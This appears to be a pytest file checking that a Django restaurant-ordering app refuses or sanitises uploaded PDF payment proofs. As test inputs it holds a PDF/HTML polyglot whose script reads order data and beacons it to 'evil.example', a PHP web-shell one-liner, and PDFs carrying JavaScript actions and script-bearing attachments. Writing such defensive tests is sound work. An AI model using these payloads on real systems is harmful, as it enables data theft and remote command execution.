"""PDF proofs are re-written from their pages, never stored as sent; stored proofs are private."""

import io
import stat

import pytest
from pypdf import PdfReader
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from orders.models import OrderStatus, PaymentProof
from payments.models import PaymentSession
from tests.orders.conftest import make_order, pdf_bytes, pdf_writer
from tests.orders.test_orders import api_upload

pytestmark = pytest.mark.django_db

PLANTED = (b"PlantedAuthor", b"PlantedProducer", b"PlantedTitle", b"PlantedXmpCreator")
SCRIPT = "app.alert('planted')"


def javascript(code: str = SCRIPT) -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Action"),
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject(code),
        }
    )


def loaded_pdf() -> bytes:
    """A one-page receipt carrying everything that must not survive: document metadata,
    XMP, an opening script, named scripts, an attachment, page actions and a link."""
    writer = pdf_writer()
    writer.add_metadata(
        {"/Author": "PlantedAuthor", "/Producer": "PlantedProducer", "/Title": "PlantedTitle"}
    )
    xmp = DecodedStreamObject()
    xmp.set_data(
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><dc:creator>PlantedXmpCreator</dc:creator>'
        b"</x:xmpmeta>"
    )
    xmp.update(
        {NameObject("/Type"): NameObject("/Metadata"), NameObject("/Subtype"): NameObject("/XML")}
    )
    root = writer._root_object
    root[NameObject("/Metadata")] = writer._add_object(xmp)
    root[NameObject("/OpenAction")] = writer._add_object(javascript())
    writer.add_attachment("receipt.html", b"<html><script>alert(1)</script></html>")
    names = root["/Names"]
    names[NameObject("/JavaScript")] = DictionaryObject(
        {
            NameObject("/Names"): ArrayObject(
                [TextStringObject("boot"), writer._add_object(javascript())]
            )
        }
    )
    page = writer.pages[0]
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): javascript()})
    page[NameObject("/Annots")] = ArrayObject(
        [
            writer._add_object(
                DictionaryObject(
                    {
                        NameObject("/Type"): NameObject("/Annot"),
                        NameObject("/Subtype"): NameObject("/Link"),
                        NameObject("/Rect"): ArrayObject(
                            [NumberObject(n) for n in (0, 0, 300, 200)]
                        ),
                        NameObject("/A"): javascript(),
                    }
                )
            )
        ]
    )
    page[NameObject("/Metadata")] = writer._add_object(xmp)
    return pdf_bytes(writer)


def assert_clean_pdf(stored: bytes) -> PdfReader:
    assert stored.startswith(b"%PDF-") and stored.rstrip().endswith(b"%%EOF")
    assert b"<script" not in stored.lower() and b"<html" not in stored.lower()
    for planted in PLANTED:
        assert planted not in stored
    for key in (b"/JavaScript", b"/JS", b"/OpenAction", b"/AA", b"/EmbeddedFiles", b"/Metadata"):
        assert key not in stored, key
    assert b"/Annots" not in stored and b"/Info" not in stored
    reader = PdfReader(io.BytesIO(stored))
    assert reader.metadata is None and reader.xmp_metadata is None
    assert set(reader.trailer["/Root"]) == {"/Type", "/Pages"}
    return reader


def stored_bytes(private_media) -> bytes:
    proof = PaymentProof.objects.get()
    assert proof.content_type == "application/pdf" and proof.file.name.endswith(".pdf")
    return (private_media / proof.file.name).read_bytes()


def assert_nothing_stored(order, private_media):
    assert not PaymentProof.objects.exists() and not PaymentSession.objects.exists()
    assert not any(private_media.rglob("*.*"))
    order.refresh_from_db()
    assert order.status == OrderStatus.DELIVERED


def test_pdf_html_polyglot_is_refused_and_nothing_is_stored(client, staff_users, private_media):
    polyglot = (
        b"%PDF-1.4\n<html><body><script>fetch('/api/orders/').then(r => r.text())"
        b".then(t => navigator.sendBeacon('//evil.example', t))</script></body></html>\n%%EOF\n"
    )
    order = make_order(staff_users["waiter"])
    client.force_login(staff_users["waiter"])
    response = api_upload(client, order, content=polyglot, name="recibo.pdf")
    assert response.status_code == 400, response.content
    assert response.json()["error"]["code"] == "file_invalid"
    assert "PDF" in response.json()["error"]["message"]
    assert_nothing_stored(order, private_media)


def test_a_pdf_wrapped_in_html_is_stored_rewritten_without_metadata_or_scripts(
    client, staff_users, private_media
):
    pdf = loaded_pdf()
    header, body = pdf.split(b"\n", 1)
    wrapped = (
        header
        + b"\n<html><body><script>alert(document.cookie)</script>\n"
        + body
        + b"<script>alert('after')</script></body></html>\n"
    )
    for planted in (*PLANTED, b"/OpenAction", b"/JavaScript", b"/EmbeddedFiles", b"<script>"):
        assert planted in wrapped
    order = make_order(staff_users["waiter"])
    client.force_login(staff_users["waiter"])
    response = api_upload(client, order, content=wrapped, name="recibo.pdf")
    assert response.status_code == 201, response.content
    reader = assert_clean_pdf(stored_bytes(private_media))
    assert len(reader.pages) == 1
    assert "Pago 130.00 MXN" in reader.pages[0].extract_text()


def test_a_javascript_open_action_is_removed(client, staff_users, private_media):
    writer = pdf_writer()
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(javascript())
    order = make_order(staff_users["waiter"])
    client.force_login(staff_users["waiter"])
    assert api_upload(client, order, content=pdf_bytes(writer), name="r.pdf").status_code == 201
    stored = stored_bytes(private_media)
    assert b"/OpenAction" not in stored and b"/JS" not in stored and b"planted" not in stored
    assert "/OpenAction" not in PdfReader(io.BytesIO(stored)).trailer["/Root"]


def test_no_markup_is_left_readable_inside_what_the_pages_draw(client, staff_users, private_media):
    writer = pdf_writer(text="<script>alert(1)</script>")
    form = DecodedStreamObject()
    form.set_data(b"% <html><body><script>alert(2)</script>\n0 0 m 10 10 l S\n")
    form.update(
        {
            NameObject("/Type"): NameObject("/XObject"),
            NameObject("/Subtype"): NameObject("/Form"),
            NameObject("/BBox"): ArrayObject([NumberObject(n) for n in (0, 0, 10, 10)]),
        }
    )
    resources = writer.pages[0]["/Resources"]
    resources[NameObject("/XObject")] = DictionaryObject(
        {NameObject("/Fm1"): writer._add_object(form)}
    )
    resources[NameObject("/Properties")] = DictionaryObject(
        {
            NameObject("/OC1"): DictionaryObject(
                {
                    NameObject("/Type"): NameObject("/OCG"),
                    NameObject("/Name"): TextStringObject("<script>alert(3)</script>"),
                    NameObject("/Intent"): writer._add_object(TextStringObject("<html>")),
                }
            )
        }
    )
    # pypdf escapes `<` in the strings it writes; a hostile file would not.
    content = pdf_bytes(writer).replace(rb"\074html\076", b"<html>")
    content = content.replace(
        rb"\074script\076alert\0503\051\074\057script\076", rb"<script>alert\(3\)</script>"
    )
    assert content.count(b"<script>") == 3 and b"(<html>)" in content
    order = make_order(staff_users["waiter"])
    client.force_login(staff_users["waiter"])
    assert api_upload(client, order, content=content, name="r.pdf").status_code == 201
    stored = stored_bytes(private_media)
    assert b"<script" not in stored and b"<html" not in stored
    page = PdfReader(io.BytesIO(stored)).pages[0]
    assert "<script>alert(1)</script>" in page.extract_text()  # what is drawn is kept
    resources = page["/Resources"]
    assert b"<script>alert(2)" in resources["/XObject"]["/Fm1"].get_object().get_data()
    assert resources["/Properties"]["/OC1"]["/Name"] == "<script>alert(3)</script>"


def test_a_normal_pdf_is_stored_and_the_cashier_sees_it(client, staff_users, private_media):
    order = make_order(staff_users["waiter"])
    client.force_login(staff_users["waiter"])
    response = api_upload(client, order, content=pdf_bytes(pdf_writer(pages=2)), name="r.pdf")
    assert response.status_code == 201, response.content
    proof = PaymentProof.objects.get()
    client.force_login(staff_users["cashier"])
    response = client.get(f"/orders/proofs/{proof.pk}/file/")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("inline")
    served = b"".join(response.streaming_content)
    reader = assert_clean_pdf(served)
    assert [p.extract_text() for p in reader.pages] == ["Pago 130.00 MXN"] * 2


def test_a_pdf_with_an_empty_user_password_is_stored_decrypted(client, staff_users, private_media):
    writer = pdf_writer()
    writer.encrypt(user_password="", owner_password="bank-owner-secret", algorithm="AES-128")
    order = make_order(staff_users["waiter"])
    client.force_login(staff_users["waiter"])
    assert api_upload(client, order, content=pdf_bytes(writer), name="r.pdf").status_code == 201
    stored = stored_bytes(private_media)
    assert b"/Encrypt" not in stored
    assert "Pago 130.00 MXN" in PdfReader(io.BytesIO(stored)).pages[0].extract_text()


def encrypted_pdf() -> bytes:
    writer = pdf_writer()
    writer.encrypt(user_password="1234", owner_password="5678", algorithm="AES-128")
    return pdf_bytes(writer)


@pytest.mark.parametrize(
    "content, code",
    [
        (b"<html><script>alert(1)</script></html>", "file_type"),
        (b"<?php system($_GET['c']); ?>", "file_type"),
        (b"%PDF-1.7\n" + bytes(range(256)) * 8 + b"\n%%EOF\n", "file_invalid"),
        (b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n", "file_invalid"),  # no pages
        (pdf_bytes()[:-300] + b"\n%%EOF\n", "file_invalid"),  # cut short
        (encrypted_pdf(), "file_encrypted"),
        (pdf_bytes(pdf_writer(pages=21)), "file_too_many_pages"),
    ],
    ids=["html", "php", "garbage", "no-pages", "truncated", "password", "too-many-pages"],
)
def test_files_named_pdf_that_are_not_usable_pdfs_are_refused_and_nothing_is_stored(
    client, staff_users, private_media, content, code
):
    order = make_order(staff_users["waiter"])
    client.force_login(staff_users["waiter"])
    response = api_upload(client, order, content=content, name="recibo.pdf")
    assert response.status_code == 400, response.content
    assert response.json()["error"]["code"] == code
    assert_nothing_stored(order, private_media)


def test_the_page_limit_is_a_setting(client, staff_users, private_media, settings):
    settings.PROOF_PDF_MAX_PAGES = 2
    order = make_order(staff_users["waiter"])
    client.force_login(staff_users["waiter"])
    response = api_upload(client, order, content=pdf_bytes(pdf_writer(pages=3)), name="r.pdf")
    assert response.status_code == 400
    assert "2" in response.json()["error"]["message"]
    assert_nothing_stored(order, private_media)
    assert api_upload(client, order, content=pdf_bytes(pdf_writer(pages=2))).status_code == 201


def test_stored_proofs_are_not_readable_by_other_users(client, staff_users, private_media):
    order = make_order(staff_users["waiter"])
    client.force_login(staff_users["waiter"])
    assert api_upload(client, order, content=pdf_bytes(), name="r.pdf").status_code == 201
    path = private_media / PaymentProof.objects.get().file.name
    for item in (path, path.parent, private_media):
        mode = stat.S_IMODE(item.stat().st_mode)
        assert mode & stat.S_IRWXO == 0, f"{item.name}: {oct(mode)}"
    assert stat.S_IMODE(path.stat().st_mode) == 0o640
